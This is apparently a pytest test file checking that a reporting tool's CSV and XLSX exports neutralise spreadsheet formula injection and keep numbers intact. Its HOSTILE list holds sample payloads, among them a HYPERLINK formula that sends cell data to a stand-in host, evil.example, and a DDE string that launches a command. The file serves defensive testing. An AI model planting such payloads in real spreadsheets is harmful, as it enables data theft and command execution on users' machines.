"""No cell of any CSV or XLSX file xfrules writes can run in a spreadsheet, and numbers stay
numbers (issue 15: formula injection; OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
import yaml

from xfrules.cli import main
from xfrules.spreadsheet import csv_cell, would_run

# Checked here independently of xfrules.spreadsheet: what a spreadsheet would run.
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?\Z")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def assert_inert(cell: str) -> None:
    if cell.startswith(_TRIGGERS):
        assert _PLAIN_NUMBER.match(cell), f"a spreadsheet would run {cell!r}"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("a\r\nb", "a\nb"),
        ("-12.50", "-12.50"),  # a number written as text stays a number
        ("+3", "+3"),
        ("-", "'-"),
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        ("某局", "某局"),
        (None, ""),
        ("13912345678", "139****5678"),  # text is masked
        (Decimal("13912345678.00"), "13912345678.00"),  # a figure is not
    ],
)
def test_csv_cell(value: object, written: str) -> None:
    assert csv_cell(value) == written


def test_would_run_keeps_numbers_as_numbers() -> None:
    assert not would_run("-12.50") and not would_run("+1e5") and not would_run("12")
    assert would_run("-1+1") and would_run("=A1") and would_run("@A1") and would_run("-")


def _facts(tmp: Path) -> Path:
    units = [
        {
            "id": f"u{i}",
            "name": name,
            "kind": "budget_unit",
            "jurisdiction": "suzhou",
            "department": name,
        }
        for i, name in enumerate(HOSTILE)
    ]
    observations = [
        {
            "unit": u["id"],
            "metric": "canteen_agri_procurement_total",
            "period_start": "2019-01-01",
            "period_end": "2019-12-31",
            "value": "1000000",
        }
        for u in units
    ]
    path = tmp / "f.yaml"
    path.write_text(
        yaml.safe_dump({"units": units, "observations": observations}, allow_unicode=True),
        "utf-8",
    )
    return path


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _check_csv(text: str) -> list[list[str]]:
    rows = _csv_cells(text)
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert_inert(cell)
    return rows


def test_evaluate_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["evaluate", str(_facts(tmp_path)), "--as-of", "2020-12-31", "--format", "csv", "--all"])
    rows = _check_csv(capsys.readouterr().out)
    names = {row[1] for row in rows[1:]}
    assert "'" + HOSTILE[0] in names and "'-2+3" in names  # shown, not run


def _ledger(tmp: Path, name: str = "l.csv") -> Path:
    path = tmp / name
    rows = [["买方", "金额", "交易时间", "备注"]]
    rows += [[f"u{i}", "12.50", "2020-05-01", h] for i, h in enumerate(HOSTILE[:4])]
    rows.append(["u0", "-12.50", "2020-05-01", "=1+1"])  # rejected: negative
    rows.append(['=HYPERLINK("x")', "1", "2020-05-01", "x"])  # rejected: unknown buyer
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.mark.parametrize("backend", ["duckdb", "memory"])
def test_ledger_evaluate_csv_and_rejects(
    backend: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    ledger = _ledger(tmp_path, "=1+1.csv")  # a relative path starting with = in the file column
    rejects = tmp_path / "rejects.csv"
    code = main(
        ["ledger", "evaluate", ledger.name, "--facts", str(_facts(tmp_path)), "--as-of",
         "2020-12-31", "--format", "csv", "--backend", backend, "--rejects", str(rejects)]
    )  # fmt: skip
    assert code in (0, 1)
    _check_csv(capsys.readouterr().out)
    rows = _check_csv(rejects.read_text("utf-8-sig"))
    assert rows[0][:4] == ["file", "row", "column", "reason"]
    data = rows[1:]
    assert {r[0] for r in data} == {"'=1+1.csv"}
    assert [data[0][5], data[0][7]] == ["-12.50", "'=1+1"]  # the number stays a number
    assert data[1][4] == "'" + '=HYPERLINK("x")'


def test_ledger_import_rejects(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rejects = tmp_path / "rejects.csv"
    code = main(["ledger", "import", str(_ledger(tmp_path)), "--facts", str(_facts(tmp_path)),
                 "--rejects", str(rejects)])  # fmt: skip
    assert code == 1
    rows = _check_csv(rejects.read_text("utf-8-sig"))
    assert len(rows) == 3


def test_report_xlsx_has_no_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "r.xlsx"
    main(["report", str(_facts(tmp_path)), "--out", str(out), "--as-of", "2020-12-31",
          "--exit-zero"])  # fmt: skip
    wb = load_workbook(out)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(_TRIGGERS):
                    assert cell.quotePrefix or _PLAIN_NUMBER.match(cell.value)
                    seen.add(cell.value)
    assert HOSTILE[0] in seen  # the text is there, inert


def test_report_xlsx_survives_control_characters(tmp_path: Path) -> None:
    facts = tmp_path / "f.yaml"
    facts.write_text(
        yaml.safe_dump(
            {
                "units": [
                    {
                        "id": "u1",
                        "name": "坏\x01名",
                        "kind": "budget_unit",
                        "jurisdiction": "suzhou",
                    }
                ]
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    out = tmp_path / "r.xlsx"
    assert main(["report", str(facts), "--out", str(out), "--as-of", "2020-12-31"]) in (0, 1)
    assert out.stat().st_size > 0
